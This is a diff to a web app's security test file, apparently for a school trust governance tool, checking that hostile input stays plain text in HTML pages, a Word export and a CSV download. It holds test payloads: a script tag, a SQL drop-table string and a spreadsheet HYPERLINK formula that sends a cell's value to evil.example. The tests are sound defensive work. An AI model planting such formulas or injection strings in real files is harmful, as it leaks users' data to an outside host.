@@ -1,10 +1,11 @@
 /**
  * Hostile text that the app accepts (a body's name, chair and remit, a responsibility's title, the
- * trust's vision) is shown as text, never run as markup or as a template: entered through the pages'
- * own actions, then rendered by the pages that show it (each page's component, server-side, with its
- * loader's data, as Remix renders it) and written into the Word document, read back by python-docx.
- * In the HTML the literal <script> appears only as &lt;script&gt;; in the document it is literal, and
- * {{handlebars}} stays as typed.
+ * trust's vision) is shown as text, never run as markup, as a template or as a spreadsheet formula:
+ * entered through the pages' own actions, then rendered by the pages that show it (each page's
+ * component, server-side, with its loader's data, as Remix renders it), written into the Word
+ * document, read back by python-docx, and into the matrix's CSV download. In the HTML the literal
+ * <script> appears only as &lt;script&gt;; in the document it is literal, and {{handlebars}} stays as
+ * typed; in the CSV a formula is marked as text with an apostrophe, and the import reads it as typed.
  */
 import fs from "node:fs";
 import path from "node:path";
@@ -28,6 +29,8 @@ import * as versionPage from "~/routes/trusts.$slug.versions.$number._index";
 import { freshDatabase } from "../support/database";
 import { call, formPost, getRequest, ORIGIN, sessionCookie } from "../support/requests";
 import { readDocx, scratchDir, type DocxReading } from "../support/word-documents";
+import { parseCsv } from "~/domain/csv";
+import * as versionCsv from "~/routes/trusts.$slug.versions.$number[.]csv";
 
 const SCRIPT = "<script>alert(1)</script>";
 const ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;";
@@ -36,6 +39,7 @@ const CHAIR = "{{handlebars}} Chair";
 const REMIT = "{{{x}}} and '; drop table trusts; -- are only words";
 const TITLE = `Approve ${SCRIPT} and {{handlebars}}`;
 const VISION = `Every child in {{trust.name}}, taught well. ${SCRIPT}`;
+const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Approve the budget")';
 
 let handle: DatabaseHandle;
 let demo: DemoTrust;
@@ -79,6 +83,8 @@ beforeAll(async () => {
   bodyId = (created.data as { added: { id: string } }).added.id;
   const added = await call(catalogueNew.action, formPost(`/trusts/${slug}/catalogue/new`, { area: "4", title: TITLE, guidance: SCRIPT }, { cookie: clerk }), { slug });
   expect(added.status, added.text).toBe(302);
+  const formula = await call(catalogueNew.action, formPost(`/trusts/${slug}/catalogue/new`, { area: "4", title: FORMULA }, { cookie: clerk }), { slug });
+  expect(formula.status, formula.text).toBe(302);
   const { version } = await loadStoredStrategy(handle.db, demo.trust.id);
   const saved = await call(strategyPage.action, formPost(`/trusts/${slug}/strategy`, { version: String(version), vision: VISION }, { cookie: clerk }), { slug });
   expect(saved.status, saved.text).toBe(302);
@@ -117,5 +123,15 @@ describe("hostile text that was accepted", () => {
     for (const typed of [BODY_NAME, CHAIR, REMIT, TITLE, VISION]) expect(text, typed).toContain(typed);
     expect(text).not.toContain("&lt;");
     expect(text).not.toContain(`Every child in ${demo.trust.name}`);
+  });
+
+  it("is text in the matrix's CSV download: a formula marked with an apostrophe, read back as typed", async () => {
+    const slug = demo.trust.slug;
+    const answer = await call(versionCsv.loader, getRequest(`/trusts/${slug}/versions/3.csv`, clerk), { slug, number: "3" });
+    expect(answer.status).toBe(200);
+    expect(answer.text).toContain(`"'${FORMULA.replace(/"/g, '""')}"`);
+    expect(answer.text).not.toMatch(/(^|,)"?[=+@]/m);
+    const titles = parseCsv(answer.text).map((r) => r.fields);
+    expect(titles.some((fields) => fields.includes(FORMULA))).toBe(true);
   });
 });
